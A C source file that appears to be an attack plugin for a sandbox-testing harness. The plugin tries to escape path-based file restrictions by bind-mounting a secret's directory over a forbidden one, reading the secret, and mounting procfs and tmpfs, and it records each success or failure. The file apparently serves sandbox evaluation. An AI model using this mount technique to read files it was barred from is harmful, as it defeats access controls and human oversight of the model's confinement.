/*
 * fs_mount_bind — bind-mounts the secret's directory over the forbidden
 * directory, reads the secret through the new mount point and unmounts; then
 * tries to mount a fresh procfs and a tmpfs. Whoever can mount can rearrange the
 * file system under any path-based rule.
 */
#include "attack.h"

#include <sys/mount.h>

static sbx_status attack(const atk_input *in, atk_out *out)
{
    char secret[4096];
    char secret_dir[4096];
    char dir[4096];
    char path[8400];
    int done = 0;
    if (!atk_param(in, "secret_path", secret, sizeof secret) ||
        !atk_param(in, "secret_dir", secret_dir, sizeof secret_dir) ||
        !atk_param(in, "forbidden_dir", dir, sizeof dir)) {
        return SBX_ERR_INVALID_ARGUMENT;
    }
    if (mount(secret_dir, dir, NULL, MS_BIND, NULL) == 0) {
        const char *base = strrchr(secret, '/');
        atk_gained(out, "bind-mounted %s on %s", secret_dir, dir);
        snprintf(path, sizeof path, "%s/%s", dir, base != NULL ? base + 1 : secret);
        atk_cat(out, "secret via bind mount", path);
        umount2(dir, MNT_DETACH);
        done = 1;
    } else {
        atk_failed(out, "bind mount", errno);
    }
    if (mount("proc", dir, "proc", MS_NOSUID | MS_NODEV | MS_NOEXEC, NULL) == 0) {
        atk_gained(out, "mounted a procfs on %s", dir);
        umount2(dir, MNT_DETACH);
        done = 1;
    } else {
        atk_failed(out, "mount proc", errno);
    }
    if (mount("tmpfs", dir, "tmpfs", 0, "size=1m") == 0) {
        atk_gained(out, "mounted a tmpfs on %s", dir);
        umount2(dir, MNT_DETACH);
        done = 1;
    } else {
        atk_failed(out, "mount tmpfs", errno);
    }
    return done ? SBX_OK : SBX_ERR_INTERNAL;
}

ATK_INVOKE_PLUGIN(attack)
